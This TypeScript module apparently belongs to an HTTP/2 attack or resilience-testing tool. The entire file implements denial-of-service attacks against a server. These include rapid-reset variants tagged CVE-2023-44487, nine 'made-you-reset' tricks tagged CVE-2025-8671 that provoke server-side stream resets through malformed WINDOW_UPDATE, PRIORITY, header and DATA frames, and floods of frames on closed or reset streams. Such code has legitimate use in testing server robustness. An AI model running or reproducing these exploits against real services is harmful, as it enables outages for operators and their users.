/** Streams that are reset as soon as they are opened: by the client, or by the server for a reason. */

import { fieldBlock, requestBlock, requestFields } from "../wire/field-block.ts";
import { CANCEL, emptyPayload, Flag, type FrameBatch, FrameType } from "../wire/frames.ts";
import { emptyMessage } from "../wire/messages.ts";
import { type Attack, repeat } from "./attack.ts";

const streamsAPiece = 400;
const block = requestBlock("Echo");
const oneByte = Buffer.alloc(1);
const { END_HEADERS, END_STREAM } = Flag;

/** The nine ways to make a server reset a stream, without one RST_STREAM of the client's own. */
const ways: Readonly<
  Record<string, { sends: string; write: (batch: FrameBatch, id: number) => void }>
> = {
  "window-update-zero": {
    sends: "WINDOW_UPDATE of 0",
    write(batch, id) {
      batch.headers(id, block, END_HEADERS);
      batch.word(FrameType.WINDOW_UPDATE, id, 0);
    },
  },
  "window-update-overflow": {
    sends: "a WINDOW_UPDATE that overflows the window",
    write(batch, id) {
      batch.headers(id, block, END_HEADERS);
      batch.word(FrameType.WINDOW_UPDATE, id, 0x7fffffff);
    },
  },
  "data-after-end": {
    sends: "DATA after END_STREAM",
    write(batch, id) {
      batch.headers(id, block, END_HEADERS | END_STREAM);
      batch.data(id, emptyPayload);
    },
  },
  "headers-after-end": {
    sends: "HEADERS after END_STREAM",
    write(batch, id) {
      batch.headers(id, block, END_HEADERS | END_STREAM);
      batch.headers(id, block, END_HEADERS | END_STREAM);
    },
  },
  "self-dependency": {
    sends: "a PRIORITY that makes the stream depend on itself",
    write(batch, id) {
      const payload = Buffer.alloc(5);
      payload.writeUInt32BE(id);
      batch.headers(id, block, END_HEADERS);
      batch.frame(FrameType.PRIORITY, 0, id, payload);
    },
  },
  "priority-size": {
    sends: "a PRIORITY of the wrong size",
    write(batch, id) {
      batch.headers(id, block, END_HEADERS);
      batch.frame(FrameType.PRIORITY, 0, id, oneByte);
    },
  },
  "bad-header": {
    sends: "a field that HTTP/2 forbids",
    write(batch, id) {
      batch.headers(id, withConnectionField, END_HEADERS);
    },
  },
  "wrong-content-length": {
    sends: "a content-length that the body contradicts",
    write(batch, id) {
      batch.headers(id, withContentLength, END_HEADERS);
      batch.data(id, emptyPayload, END_STREAM);
    },
  },
  "trailers-without-end": {
    sends: "trailers without END_STREAM",
    write(batch, id) {
      batch.headers(id, block, END_HEADERS);
      batch.headers(id, trailers, END_HEADERS);
    },
  },
};

const withConnectionField = fieldBlock(requestFields("Echo", ["connection", "close"]));
const withContentLength = fieldBlock(requestFields("Echo", ["content-length", "5"]));
const trailers = fieldBlock([["late", "1"]]);

/** An attack that opens streams and has each one reset. */
function resetting(write: (batch: FrameBatch, id: number) => void): Attack["create"] {
  return (peer) => ({
    write(batch) {
      for (let index = 0; index < streamsAPiece; index++) write(batch, peer.openStream());
    },
  });
}

export const resets: readonly Attack[] = [
  {
    name: "rapid-reset",
    sends: "HEADERS and RST_STREAM, stream after stream",
    known: "CVE-2023-44487",
    create: resetting((batch, id) => {
      batch.headers(id, block, END_HEADERS);
      batch.word(FrameType.RST_STREAM, id, CANCEL);
    }),
  },
  {
    name: "rapid-reset-whole-call",
    sends: "a whole request and RST_STREAM, call after call",
    known: "CVE-2023-44487",
    create: (peer) => ({
      write(batch) {
        for (let index = 0; index < streamsAPiece; index++) {
          const id = peer.openStream();
          if (!peer.takeWindow(id, emptyMessage.length)) return;
          peer.closeStream(id);
          batch.headers(id, block, END_HEADERS);
          batch.data(id, emptyMessage, END_STREAM);
          batch.word(FrameType.RST_STREAM, id, CANCEL);
        }
      },
    }),
  },
  ...Object.entries(ways).map(
    ([way, { sends, write }]): Attack => ({
      name: `made-you-reset-${way}`,
      sends: `HEADERS and ${sends}, stream after stream`,
      known: "CVE-2025-8671",
      create: resetting(write),
    }),
  ),
  {
    name: "rst-on-closed",
    sends: "RST_STREAM on streams that are closed",
    create: (peer) => {
      const id = peer.openStream();
      return {
        begin(batch) {
          batch.headers(id, block, END_HEADERS);
          batch.word(FrameType.RST_STREAM, id, CANCEL);
        },
        ...repeat((batch) => batch.word(FrameType.RST_STREAM, id, CANCEL), 4000),
      };
    },
  },
  {
    name: "headers-on-reset",
    sends: "HEADERS on streams that the server has reset",
    create: (peer) => ({
      write(batch) {
        const id = peer.openStream();
        batch.headers(id, block, END_HEADERS);
        batch.word(FrameType.WINDOW_UPDATE, id, 0);
        for (let index = 0; index < 500; index++)
          batch.headers(id, trailers, END_HEADERS | END_STREAM);
      },
    }),
  },
  {
    name: "data-on-reset",
    sends: "DATA of one byte on streams that the server has reset",
    create: (peer) => {
      let id = 0;
      let left = 0;
      return {
        write(batch) {
          if (left === 0) {
            id = peer.openStream();
            left = 4000;
            batch.headers(id, block, END_HEADERS);
            batch.word(FrameType.WINDOW_UPDATE, id, 0);
          }
          while (left > 0 && batch.frames < 4000 && peer.takeWindow(id, 1)) {
            batch.data(id, oneByte);
            left--;
          }
          if (left === 0) peer.closeStream(id);
        },
      };
    },
  },
];
